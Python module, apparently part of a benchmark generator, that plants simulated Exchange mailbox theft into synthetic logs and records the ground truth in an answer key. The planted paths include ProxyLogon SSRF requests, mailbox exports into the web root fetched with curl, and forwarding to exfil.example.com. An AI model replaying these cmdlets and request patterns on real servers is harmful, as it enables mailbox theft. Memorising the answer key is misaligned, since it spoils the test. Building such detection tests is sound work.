"""Planted mailbox theft by every path, heavy legitimate readers, and the ledger of what was taken.

The `theft` family takes K mailboxes by each path the analytics know (`ssrf-ews`,
`stolen-credentials`, `export-cmdlet`, `export-file-download`, `forwarding`,
`delegate/permission`) among the normal users, and adds two heavy legitimate readers that must
not be flagged: an archiving account that reads every mailbox through EWS impersonation every
night, and an assistant with delegate access who opens one executive's mailbox every working day.
It also writes a small Message Tracking log (normal mail flow plus the forwarded copies).

Every access is counted in a ledger (`record`), which the answer key carries under
`mailbox_theft`: per mailbox and path the accessor, first and last time, operations, items and
bytes. Other families record their own thefts in the same ledger (the ProxyLogon EWS theft).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any

from . import winevents as we
from .benign import DB_GUID, Population
from .formats import Ref, csv_row_from, w3c_row
from .mailflow import FIELDS
from .model import (
    AD_DOMAIN,
    DAY_MS,
    DOMAIN_SID,
    HOUR_MS,
    NETBIOS,
    PL_EXPLOIT_IP,
    SMTP_DOMAIN,
    iis_date_time,
    iso,
)
from .planter import Planter
from .rows import Actor, Req, emit, iis_fe_values, make_lat
from .world import Schedule, World

FAMILY = "theft"
PER_PATH = 3  # K: mailboxes taken by each path (fewer when the population is small)
THEFT_IP = "198.51.100.77"  # the operator using stolen credentials and grants (documentation range)
DROP_DOMAIN = "exfil.example.com"  # where forwarded mail goes (documentation domain)
EWSC_UA = "ExchangeServicesClient/0.0.0.0"
EWS_API_UA = "ExchangeServicesClient/15.00.0913.015"
ATTACKER_OUTLOOK_UA = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)"
ARCHIVE_UA = "MailArchiver/7.4 ExchangeServicesClient/15.00.0913.015"
MAGIC_A = "1942062522"
PATHS = ("ssrf-ews", "stolen-credentials", "export-cmdlet", "export-file-download", "forwarding", "delegate/permission")
TRACKING_FIELDS = FIELDS  # one Message Tracking field list (mailflow.py)


# ---- the ledger ----------------------------------------------------------------------------------


@dataclass
class Access:
    """What one accessor took from one mailbox by one path."""

    mailbox: str
    path: str
    accessor: str
    client_ip: str
    first: int = 0
    last: int = 0
    operations: dict[str, int] = field(default_factory=dict)
    items: int = 0
    bytes: int = 0

    def render(self) -> dict[str, Any]:
        return {
            "mailbox": self.mailbox, "path": self.path, "accessor": self.accessor, "client_ip": self.client_ip,
            "first": iso(self.first), "last": iso(self.last), "operations": dict(sorted(self.operations.items())),
            "items": self.items, "bytes": self.bytes,
        }  # fmt: skip


@dataclass
class Ledger:
    taken: dict[tuple[str, str, str], Access] = field(default_factory=dict)
    legitimate: dict[tuple[str, str, str], Access] = field(default_factory=dict)
    paths_planted: set[str] = field(default_factory=set)
    files: set[str] = field(default_factory=set)  # every log file this family wrote a line into


def ledger(world: World) -> Ledger:
    """The world's theft ledger, created on first use."""
    led = getattr(world, "theft_ledger", None)
    if led is None:
        led = Ledger()
        world.theft_ledger = led  # type: ignore[attr-defined]
    return led


def record(
    world: World, mailbox: str, path: str, accessor: str, ip: str, t: int, op: str, *,
    items: int = 0, nbytes: int = 0, legitimate: bool = False,
) -> None:  # fmt: skip
    """Count one operation of `accessor` on `mailbox` (lower-cased addresses) by `path`."""
    led = ledger(world)
    book = led.legitimate if legitimate else led.taken
    key = (mailbox.lower(), path, accessor.lower())
    a = book.get(key)
    if a is None:
        a = book[key] = Access(mailbox.lower(), path, accessor.lower(), ip, t, t)
    a.first, a.last = min(a.first, t), max(a.last, t)
    a.operations[op] = a.operations.get(op, 0) + 1
    a.items += items
    a.bytes += nbytes
    if not legitimate:
        led.paths_planted.add(path)


def answer(world: World) -> dict[str, Any]:
    """The ground truth for the answer key: every mailbox taken, and the legitimate heavy readers."""
    led = ledger(world)
    taken = sorted((a.render() for a in led.taken.values()), key=lambda a: (a["mailbox"], a["path"], a["first"]))
    legit = sorted((a.render() for a in led.legitimate.values()), key=lambda a: (a["accessor"], a["mailbox"]))
    by_acc: dict[str, dict[str, Any]] = {}
    for a in legit:
        s = by_acc.setdefault(a["accessor"], {"accessor": a["accessor"], "mailboxes": 0, "operations": 0, "bytes": 0})
        s["mailboxes"] += 1
        s["operations"] += sum(a["operations"].values())
        s["bytes"] += a["bytes"]
    return {
        "paths": sorted(led.paths_planted),
        "mailboxes": sorted({a["mailbox"] for a in taken}),
        "taken": taken,
        "legitimate_readers": list(by_acc.values()),
        "attacker_ips": sorted({a["client_ip"] for a in taken if a["client_ip"]}),
        "files": sorted(led.files),
    }


# ---- the family ----------------------------------------------------------------------------------


class Theft(Planter):
    """Schedules the theft of K mailboxes by each path and the heavy legitimate readers."""

    def __init__(self, world: World, rng: random.Random, pop: Population, sched: Schedule) -> None:
        super().__init__(world, rng, pop, sched)
        self.machine_upn = f"{world.host}$@{AD_DOMAIN}"
        self.admin_nt = f"{NETBIOS}\\Administrator"
        self.admin_sid = f"{DOMAIN_SID}-500"
        users = [u for u in pop.users if u is not pop.exec_user]
        mapi_users = [u for u in users if not u.mac and not u.legacy_rpc]
        self.k = max(1, min(PER_PATH, (len(mapi_users) - 3) // 7))
        picked = rng.sample(mapi_users, min(len(mapi_users), 7 * self.k + 2))
        self.assistant = picked[0]
        self.stolen = picked[1]  # an account whose password the attacker holds
        rest = picked[2:]
        self.victims = {p: rest[i * self.k : (i + 1) * self.k] for i, p in enumerate(PATHS)}
        self.grantee = rest[6 * self.k] if len(rest) > 6 * self.k else self.stolen
        self.archiver = Actor(
            "svc-archive", f"svc-archive@{SMTP_DOMAIN}", f"{DOMAIN_SID}-1291", self.ids.guid(), self.ids.guid(),
            "10.10.6.41",
        )  # fmt: skip
        self.mt_files: dict[int, Any] = {}

    def at(self, t: int, fn: Any) -> None:
        self.sched.at(t, fn)

    def plan(self) -> None:
        tl = self.tl
        d_last = tl.t_end - DAY_MS  # the attack runs on the last day, after a baseline
        d_mid = tl.t0 + (tl.days // 2) * DAY_MS if tl.days > 1 else tl.t0
        self._archiver()
        self._assistant()
        self._mail_flow()
        self._ssrf(d_last + 2 * HOUR_MS + 13 * 60_000)
        self._stolen_credentials(d_last + 3 * HOUR_MS + 7 * 60_000)
        self._exports(d_last + 1 * HOUR_MS + 41 * 60_000)
        self._downloads(tl.iis_fields_on + 40 * 60_000 if tl.iis_fields_on < tl.t_end else d_mid + 11 * HOUR_MS)
        self._forwarding(d_mid + 5 * HOUR_MS + 29 * 60_000)
        self._delegate(d_last + 4 * HOUR_MS + 2 * 60_000)

    # ---- request helpers -----------------------------------------------------------------------
    def _emit(self, t: int, req: Req) -> tuple[Any, int]:
        """Emit one request; return its refs and the HttpProxy ResponseBytes it was given."""
        state = self.rng.getstate()
        lat, _, _ = make_lat(self.rng, req.lat, req.be_stem is not None)
        self.rng.setstate(state)
        reqid = self.ids.guid()
        refs = emit(self.w, self.rng, t, req, reqid)
        self._touch(refs.fe, refs.be, refs.hp, refs.ews, refs.rps)
        return refs, int(lat["ResponseBytes"] or 0)

    def _touch(self, *refs: Ref | None) -> None:
        ledger(self.w).files.update(r.path for r in refs if r is not None)

    def _cmdlet(self, t: int, name: str, params: str, desc: str) -> Ref | None:
        ev = self.w.event(
            "msexchange-management",
            t,
            we.cmdlet(
                t, name=name, params=params, caller=self.admin_nt, caller_sid=self.admin_sid,
                app="ServerRemoteHost-PowerShell", pid=5120,
            ),
            ref=True,
        )  # fmt: skip
        self._touch(ev)
        return ev

    def _mail_ops(self) -> list[tuple[str, int]]:
        """A mailbox harvest: folder look-ups, item searches, then item reads with their sizes."""
        rng = self.rng
        ops = [("FindFolder", rng.randint(900, 4_000)), ("FindItem", rng.randint(4_000, 40_000))]
        ops += [("GetItem", rng.randint(40_000, 2_400_000)) for _ in range(rng.randint(5, 12))]
        return ops

    # ---- paths ---------------------------------------------------------------------------------
    def _ssrf(self, t0: int) -> None:
        """EWS reads forged through the ProxyLogon SSRF as the machine account (ActAsUser = victim)."""
        w = self.w
        t = t0
        for victim in self.victims["ssrf-ews"]:
            for op, size in self._mail_ops():
                t += self.rng.randint(1_500, 7_000)

                def run(t: int = t, op: str = op, size: int = size, v: Actor = victim) -> None:
                    req = Req(
                        "POST", f"/ecp/{self.ids.hexstr(2)}.js", "", PL_EXPLOIT_IP, EWSC_UA, "", proto="Ecp",
                        anchor=f"ServerInfo~{w.fqdn}/EWS/Exchange.asmx?a=~{MAGIC_A}#", hint="X-BEResource-Cookie",
                        be_stem="/EWS/Exchange.asmx", be_user=f"{NETBIOS}\\{w.host}$", soap=op,
                        ews_user=self.machine_upn, lat="slow" if op == "GetItem" else "normal",
                        ews_extra={
                            "ActAsUser": v.upn, "ResponseSize": str(size),
                            "GenericInfo": f"SoapAction_0={op};MailboxTarget={v.upn};",
                        },
                    )  # fmt: skip
                    self._emit(t, req)
                    record(w, v.upn, "ssrf-ews", self.machine_upn, PL_EXPLOIT_IP, t, op,
                           items=1 if op == "GetItem" else 0, nbytes=size)  # fmt: skip

                self.at(t, run)
            t += 40_000

    def _stolen_credentials(self, t0: int) -> None:
        """A valid account's password used from outside to impersonate other mailboxes through EWS."""
        w = self.w
        a = self.stolen
        t = t0
        for victim in self.victims["stolen-credentials"]:
            for op, size in self._mail_ops():
                t += self.rng.randint(900, 5_000)

                def run(t: int = t, op: str = op, size: int = size, v: Actor = victim) -> None:
                    req = Req(
                        "POST", "/EWS/Exchange.asmx", "", THEFT_IP, EWS_API_UA, a.nt, proto="Ews", hp_user=a.upn,
                        auth="Basic", anchor=f"Smtp~{v.upn}", hint="ImpersonationHeader", user_guid=a.objguid,
                        be_stem="/EWS/Exchange.asmx", be_user=a.nt, soap=op, ews_user=a.upn,
                        lat="slow" if op == "GetItem" else "normal",
                        ews_extra={"ImpersonatedUser": v.upn, "ResponseSize": str(size)},
                    )  # fmt: skip
                    self._emit(t, req)
                    record(w, v.upn, "stolen-credentials", a.upn, THEFT_IP, t, op,
                           items=1 if op == "GetItem" else 0, nbytes=size)  # fmt: skip

                self.at(t, run)
            t += 60_000

    def _exports(self, t0: int) -> None:
        """New-MailboxExportRequest of each victim to a share on the server itself."""
        for i, v in enumerate(self.victims["export-cmdlet"]):
            t = t0 + i * 47_000
            params = f'-Mailbox "{v.sam}" -FilePath "\\\\{self.w.host}\\C$\\ProgramData\\pst\\{v.sam}.pst"'

            def run(t: int = t, v: Actor = v, params: str = params) -> None:
                self._cmdlet(t, "New-MailboxExportRequest", params, "mailbox export to a share")
                record(self.w, v.upn, "export-cmdlet", self.admin_nt, "", t, "New-MailboxExportRequest")

            self.at(t, run)

    def _downloads(self, t0: int) -> None:
        """Exports written into the web root, then fetched over HTTPS from outside."""
        w = self.w
        for i, v in enumerate(self.victims["export-file-download"]):
            t = t0 + i * 5 * 60_000
            name = self.ids.hexstr(12)
            params = f'-Mailbox "{v.upn}" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{name}.pst"'
            size = self.rng.randint(30_000_000, 240_000_000)
            t_get = t + 150_000 + self.rng.randint(0, 60_000)

            def export(t: int = t, v: Actor = v, params: str = params) -> None:
                self._cmdlet(t, "New-MailboxExportRequest", params, "mailbox export into the web root")
                record(w, v.upn, "export-cmdlet", self.admin_nt, "", t, "New-MailboxExportRequest")

            def fetch(t: int = t_get, v: Actor = v, name: str = name, size: int = size) -> None:
                req = Req("GET", f"/aspnet_client/{name}.pst", "", THEFT_IP, "curl/7.68.0", "", cafe=False)
                d, tm = iis_date_time(t)
                vals = iis_fe_values(req, d, tm, "", str(self.rng.randint(9_000, 60_000)), str(size))
                self._touch(w.iis(1, t).insert(t, w3c_row(w.iis_fields(t), vals)))
                record(w, v.upn, "export-file-download", "", THEFT_IP, t, "download", items=1, nbytes=size)

            self.at(t, export)
            self.at(t_get, fetch)

    def _forwarding(self, t0: int) -> None:
        """Forwarding to an outside address (mailbox setting or inbox rule), then mail that followed it."""
        w = self.w
        drop = f"collect{self.rng.randint(10, 99)}@{DROP_DOMAIN}"
        for i, v in enumerate(self.victims["forwarding"]):
            t = t0 + i * 61_000
            by_rule = i % 2 == 1
            if by_rule:
                name, params = "New-InboxRule", f'-Mailbox "{v.sam}" -Name "sync" -ForwardTo "{drop}"'
            else:
                name = "Set-Mailbox"
                params = f'-Identity "{v.sam}" -ForwardingSmtpAddress "smtp:{drop}" -DeliverToMailboxAndForward "True"'

            def run(t: int = t, v: Actor = v, name: str = name, params: str = params) -> None:
                self._cmdlet(t, name, params, "forwarding outside")
                record(w, v.upn, "forwarding", drop, "", t, name)

            self.at(t, run)
            tm = t + HOUR_MS
            for _ in range(self.rng.randint(4, 9)):
                tm += self.rng.randint(10 * 60_000, 90 * 60_000)
                if tm >= self.tl.t_end - 60_000:
                    break
                size = self.rng.randint(6_000, 900_000)

                def mail(t: int = tm, v: Actor = v, size: int = size, by_rule: bool = by_rule) -> None:
                    sender = f"partner{self.rng.randint(1, 40)}@contoso.example"
                    mid = f"<{self.ids.hexstr(16)}@contoso.example>"
                    self._track(t, "RECEIVE", "SMTP", sender, v.upn, size, mid, "Incoming")
                    self._track(t + 800, "DELIVER", "STOREDRIVER", sender, v.upn, size, mid, "Incoming")
                    if by_rule:
                        fwd = f"<{self.ids.hexstr(16)}@{w.fqdn}>"
                        self._track(t + 2_100, "RECEIVE", "MAILBOXRULE", v.upn, drop, size, fwd, "Originating")
                        self._track(t + 3_000, "SEND", "SMTP", v.upn, drop, size, fwd, "Originating")
                    else:
                        self._track(t + 300, "REDIRECT", "AGENT", sender, drop, size, mid, "Incoming", related=v.upn)
                        self._track(t + 1_900, "SEND", "SMTP", sender, drop, size, mid, "Incoming")
                    record(w, v.upn, "forwarding", drop, "", t + (2_100 if by_rule else 300),
                           "MAILBOXRULE" if by_rule else "REDIRECT", items=1, nbytes=size)  # fmt: skip

                self.at(tm, mail)

    def _delegate(self, t0: int) -> None:
        """FullAccess granted to an account the attacker holds, then the mailboxes opened with Outlook (MAPI)."""
        w = self.w
        g = self.grantee
        t = t0
        for v in self.victims["delegate/permission"]:
            params = f'-Identity "{v.sam}" -User "{g.nt}" -AccessRights "FullAccess" -InheritanceType "All"'

            def grant(t: int = t, v: Actor = v, params: str = params) -> None:
                self._cmdlet(t, "Add-MailboxPermission", params, "FullAccess grant")
                record(w, v.upn, "delegate/permission", g.upn, THEFT_IP, t, "Add-MailboxPermission")

            self.at(t, grant)
            tt = t + 90_000
            for _ in range(self.rng.randint(6, 14)):
                tt += self.rng.randint(1_000, 9_000)

                def run(t: int = tt, v: Actor = v) -> None:
                    req = self._mapi(g, v, THEFT_IP, ATTACKER_OUTLOOK_UA, "slow")
                    _, nbytes = self._emit(t, req)
                    record(w, v.upn, "delegate/permission", g.upn, THEFT_IP, t, "Mapi:Execute", nbytes=nbytes)

                self.at(tt, run)
            t = tt + 120_000

    @staticmethod
    def _mapi(reader: Actor, owner: Actor, ip: str, ua: str, lat: str) -> Req:
        q = f"MailboxId={owner.mbx}@{SMTP_DOMAIN}"
        return Req(
            "POST", "/mapi/emsmdb/", q, ip, ua, reader.nt, proto="Mapi", hp_user=reader.upn, auth="Negotiate",
            anchor=f"MailboxGuid~{owner.mbx}@{SMTP_DOMAIN}", hint="MailboxGuidWithDomain", action="Execute",
            cookie=f"Database~{DB_GUID}", db=DB_GUID, user_guid=reader.objguid, be_stem="/mapi/emsmdb/",
            be_query=q, be_user=reader.nt, lat=lat,
        )  # fmt: skip

    # ---- legitimate heavy readers ---------------------------------------------------------------
    def _archiver(self) -> None:
        """Every night the archiving account reads every mailbox through EWS impersonation, at a steady volume."""
        w = self.w
        a = self.archiver
        sizes = {u.upn: self.rng.randint(300_000, 6_000_000) for u in self.pop.users}
        for day in range(self.tl.t0, self.tl.t_end, DAY_MS):
            t = day + HOUR_MS + self.rng.randint(0, 600_000)
            for u in self.pop.users:
                t += self.rng.randint(1_500, 6_000)
                if t >= day + 6 * HOUR_MS:
                    break
                ops = [("FindItem", 3_000), ("GetItem", sizes[u.upn] // 2), ("GetItem", sizes[u.upn] // 2)]
                for j, (op, base) in enumerate(ops):
                    size = int(base * self.rng.uniform(0.92, 1.08))

                    def run(t: int = t + j * 400, op: str = op, size: int = size, u: Actor = u) -> None:
                        req = Req(
                            "POST", "/EWS/Exchange.asmx", "", a.ip, ARCHIVE_UA, a.nt, proto="Ews", hp_user=a.upn,
                            auth="NTLM", anchor=f"Smtp~{u.upn}", hint="ImpersonationHeader", user_guid=a.objguid,
                            be_stem="/EWS/Exchange.asmx", be_user=a.nt, soap=op, ews_user=a.upn,
                            ews_extra={"ImpersonatedUser": u.upn, "ResponseSize": str(size)},
                        )  # fmt: skip
                        refs, _ = self._emit(t, req)
                        if u is self.pop.users[0] and op == "FindItem":
                            w.key.benign_at(refs.ews, "archiving-account-read", account=a.upn)
                        record(w, u.upn, "archiving", a.upn, a.ip, t, op, items=int(op == "GetItem"),
                               nbytes=size, legitimate=True)  # fmt: skip

                    self.at(t + j * 400, run)

    def _assistant(self) -> None:
        """The assistant opens the executive's mailbox with Outlook every working day."""
        w = self.w
        a, boss = self.assistant, self.pop.exec_user
        if a is boss:
            return
        for day in range(self.tl.t0, self.tl.t_end, DAY_MS):
            t = day + 8 * HOUR_MS + self.rng.randint(0, 1_800_000)
            for i in range(self.rng.randint(9, 12)):
                t += self.rng.randint(20 * 60_000, 50 * 60_000)

                def run(t: int = t, first: bool = i == 0) -> None:
                    refs, nbytes = self._emit(t, self._mapi(a, boss, a.ip, a.outlook_ua, "normal"))
                    if first:
                        w.key.benign_at(refs.hp, "delegate-assistant-read", account=a.upn, mailbox=boss.upn)
                    record(w, boss.upn, "delegate", a.upn, a.ip, t, "Mapi:Execute", nbytes=nbytes, legitimate=True)

                self.at(t, run)

    # ---- message tracking ------------------------------------------------------------------------
    def _mail_flow(self) -> None:
        """Ordinary mail each hour: internal messages and messages to partners outside."""
        users = self.pop.users
        for h in range(self.tl.t0, self.tl.t_end, HOUR_MS):
            n = max(1, len(users) // 25)

            def run(h: int = h, n: int = n) -> None:
                rng = self.rng
                for _ in range(n):
                    t = h + rng.randint(0, HOUR_MS - 5_000)
                    s, r = rng.choice(users), rng.choice(users)
                    size = rng.randint(3_000, 400_000)
                    mid = f"<{self.ids.hexstr(16)}@{self.w.fqdn}>"
                    self._track(t, "RECEIVE", "STOREDRIVER", s.upn, r.upn, size, mid, "Originating")
                    if rng.random() < 0.3:
                        ext = f"contact{rng.randint(1, 90)}@fabrikam.example"
                        self._track(t + 1_200, "SEND", "SMTP", s.upn, ext, size, mid, "Originating")
                    else:
                        self._track(t + 700, "DELIVER", "STOREDRIVER", s.upn, r.upn, size, mid, "Originating")

            self.at(h, run)

    def _track(
        self, t: int, event: str, source: str, sender: str, rcpt: str, size: int, mid: str, direction: str,
        *, related: str = "",
    ) -> Ref:  # fmt: skip
        d = t - t % DAY_MS
        f = self.w.daily.get(("MSGTRK", d))
        if f is None:
            stamp = iso(d)[:10].replace("-", "")
            rel = f"{self.w.host}/C/Program Files/Microsoft/Exchange Server/V15/TransportRoles/Logs/MessageTracking/MSGTRK{stamp}-1.LOG"
            f = self.w._exchange(rel, "Message Tracking Log", TRACKING_FIELDS, bare=False)
            self.w.daily[("MSGTRK", d)] = f
        v = {
            "date-time": iso(t), "client-ip": "10.10.1.20" if source != "SMTP" else "", "server-hostname": self.w.host,
            "source": source, "event-id": event, "internal-message-id": str(self.rng.randint(10**5, 10**7)),
            "message-id": mid, "recipient-address": rcpt, "recipient-status": "250 2.6.0" if event == "SEND" else "",
            "total-bytes": str(size), "recipient-count": "1", "related-recipient-address": related,
            "message-subject": "", "sender-address": sender, "return-path": sender, "directionality": direction,
            "schema-version": "15.01.2106.002",
        }  # fmt: skip
        ref = f.insert(t, csv_row_from(TRACKING_FIELDS, v))
        self._touch(ref)
        return ref
